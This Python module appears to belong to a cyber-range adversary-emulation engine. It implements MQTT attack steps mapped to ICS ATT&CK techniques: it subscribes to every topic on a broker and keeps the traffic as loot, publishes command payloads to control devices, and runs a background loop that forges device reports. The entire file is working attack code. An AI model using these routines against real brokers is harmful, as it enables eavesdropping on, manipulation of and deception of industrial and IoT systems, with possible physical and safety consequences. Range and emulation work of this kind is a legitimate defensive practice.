"""MQTT: listening to everything a broker carries, ordering machines about, lying in their name."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import AsyncIterator, Mapping
from typing import Any

from cyber_range.engine.attack.intruder import Intruder
from cyber_range.engine.attack.registry import step
from cyber_range.engine.attack.speakers import MqttSpeaker
from cyber_range.engine.attack.speaking import reach_of, speaking
from cyber_range.engine.attack.ways import Blocked, Evidence

PORT = 1883
SHOWN = 120  # topics of one evidence


@contextlib.asynccontextmanager
async def dialogue(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> AsyncIterator[MqttSpeaker]:
    """Args of every step: host, port (1883), user, password, client (the name it connects with)."""
    host, port = intruder.fence.check(str(args["host"])), int(args.get("port", PORT))
    reach = reach_of(intruder, evidence)
    evidence.facts["target"] = host
    client, user, password = (str(args.get(key, "")) for key in ("client", "user", "password"))
    async with speaking(
        host, lambda: intruder.toolbox.mqtt(reach, host, port, client or "mqtt-explorer", user, password)
    ) as broker:
        yield broker


@step("mqtt_listen", "T0801", "T0802", "T0861", "T0842", needs=("session",), gains=("points", "loot"))
async def mqtt_listen(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Subscribes (`topics`, "#") for some `seconds` (3) and keeps what comes (loot under "mqtt")."""
    topics = [str(topic) for topic in args.get("topics", ["#"])]
    async with dialogue(intruder, args, evidence) as broker:
        heard = await broker.listen(topics, min(60.0, float(args.get("seconds", 3))))
    last = dict(heard)
    intruder.loot["mqtt"] = b"\n".join(topic.encode() + b" " + payload for topic, payload in heard)
    evidence.facts |= {
        "messages": len(heard),
        "topics": {topic: payload[:80].decode("utf-8", "replace") for topic, payload in list(last.items())[:SHOWN]},
    }
    if not heard:
        raise Blocked(f"{args['host']} says nothing")


@step("mqtt_command", "T0855", "T0836", "T0831", "T0821", "T0816", "T0858", needs=("session",))
async def mqtt_command(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Publishes orders: `topic` and `payload`, or several `orders` [{topic, payload, retain?}]. `restore` undoes them."""
    orders = list(args.get("orders") or [args])
    async with dialogue(intruder, args, evidence) as broker:
        for order in orders:
            retain = bool(order.get("retain", False))
            await broker.publish(str(order["topic"]), str(order["payload"]).encode(), retain=retain, qos=1)
    evidence.facts["orders"] = [{"topic": str(o["topic"]), "payload": str(o["payload"])} for o in orders]
    restore, where = list(args.get("restore") or ()), dict(args)
    kept = [str(order["topic"]) for order in orders if order.get("retain")]
    if not restore and not kept:
        return

    async def put_back(told: Evidence) -> dict[str, Any]:
        async with dialogue(intruder, where, told) as broker:
            for topic in kept:  # an empty retained message deletes it (3.3.1.3)
                await broker.publish(topic, b"", retain=True, qos=1)
            for order in restore:
                await broker.publish(str(order["topic"]), str(order["payload"]).encode(), retain=False, qos=1)
        return {"target": str(where["host"]), "restored": [str(order["topic"]) for order in restore], "cleared": kept}

    intruder.undo_with((args["host"], "mqtt", tuple(str(o["topic"]) for o in orders)), put_back)


@step("mqtt_spoof", "T0856", "T0832", needs=("session",))
async def mqtt_spoof(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Reports in a machine's name: `reports` [{topic, payload}] every `every` s (1), `times` (60). Goes on by itself."""
    reports = list(args.get("reports") or [args])
    every, times = max(0.05, float(args.get("every", 1))), max(1, min(2000, int(args.get("times", 60))))
    retain, where = bool(args.get("retain", False)), dict(args)
    opened: asyncio.Future[None] = asyncio.get_running_loop().create_future()

    async def keep_lying() -> None:
        own, told = Evidence(), 0
        try:
            async with dialogue(intruder, where, own) as broker:
                for number in range(times):
                    for report in reports:
                        await broker.publish(
                            str(report["topic"]), str(report["payload"]).encode(), retain=retain, qos=0
                        )
                        told += 1
                    if number == 0 and not opened.done():
                        opened.set_result(None)
                    await asyncio.sleep(every)
        except Blocked as exc:
            if not opened.done():
                opened.set_exception(exc)
        intruder.tell("mqtt_spoof_ended", {"target": str(where["host"]), "reports": told, **own.as_dict()})

    intruder.go_on(f"mqtt_spoof {args['host']}", keep_lying())
    await opened
    evidence.facts |= {"target": str(args["host"]), "topics": [str(report["topic"]) for report in reports]}
